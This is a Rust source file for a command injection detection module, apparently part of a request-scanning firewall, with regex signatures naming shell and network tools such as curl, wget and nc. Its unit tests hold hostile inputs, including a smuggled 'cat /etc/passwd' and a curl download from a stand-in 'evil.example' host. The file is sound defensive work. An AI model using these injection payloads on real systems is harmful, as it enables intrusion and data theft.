//! OS command injection detection.

use super::{Combination, DetectionModule, ModuleResult, SignaturePattern, SignatureSet};
use crate::error::Result;
use crate::request::AnalysisRecord;

/// Command injection signature scanner.
pub struct CommandInjectionModule {
    set: SignatureSet,
}

impl CommandInjectionModule {
    /// Compile the command injection pattern set.
    pub fn new() -> Result<Self> {
        let patterns = vec![
            SignaturePattern::new(
                "shell-command-chain",
                "Chained shell command",
                r"(?i)[;&|`]\s*(?:cat|ls|id|whoami|uname|pwd|wget|curl|nc|netcat|bash|sh|cmd|powershell|python|perl|ruby)\b",
                4.0,
            )?,
            SignaturePattern::new(
                "command-substitution",
                "Command substitution",
                r"\$\([^)]+\)",
                3.0,
            )?,
            SignaturePattern::new("backtick-exec", "Backtick execution", r"`[^`]+`", 3.0)?,
            SignaturePattern::new(
                "shell-path",
                "Shell interpreter path",
                r"(?i)/bin/(?:ba|z|da)?sh\b",
                3.0,
            )?,
            // Indicator: arms the download combination only.
            SignaturePattern::new("remote-url", "remote URL", r"(?i)\bhttps?://", 0.0)?,
        ];

        static CHAINED_DOWNLOAD: &[&[&str]] = &[&["shell-command-chain"], &["remote-url"]];

        let combinations = vec![Combination {
            id: "chained-download",
            description: "Shell chain fetching a remote payload",
            score: 3.0,
            requires: CHAINED_DOWNLOAD,
        }];

        Ok(Self {
            set: SignatureSet::new("cmd-injection", "cmd-injection", patterns, combinations),
        })
    }
}

impl DetectionModule for CommandInjectionModule {
    fn name(&self) -> &'static str {
        "cmd-injection"
    }

    fn analyze(&self, record: &AnalysisRecord) -> Option<ModuleResult> {
        self.set.analyze(record)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::request::RequestInput;

    fn analyze(query: &str) -> Option<ModuleResult> {
        let input = RequestInput::new("GET", "/api/ping").with_query("host", query);
        let record = AnalysisRecord::from_input(&input);
        CommandInjectionModule::new().unwrap().analyze(&record)
    }

    #[test]
    fn test_chained_command() {
        let result = analyze("127.0.0.1; cat /etc/passwd").unwrap();
        assert!(result
            .threats
            .iter()
            .any(|t| t.pattern == "shell-command-chain"));
    }

    #[test]
    fn test_command_substitution() {
        let result = analyze("$(whoami)").unwrap();
        assert!(result
            .threats
            .iter()
            .any(|t| t.pattern == "command-substitution"));
    }

    #[test]
    fn test_chained_download_combination() {
        let result = analyze("8.8.8.8; curl https://evil.example/x.sh").unwrap();
        assert!(result.threats.iter().any(|t| t.pattern == "chained-download"));
    }

    #[test]
    fn test_benign_host() {
        assert!(analyze("db.internal.example.com").is_none());
    }
}
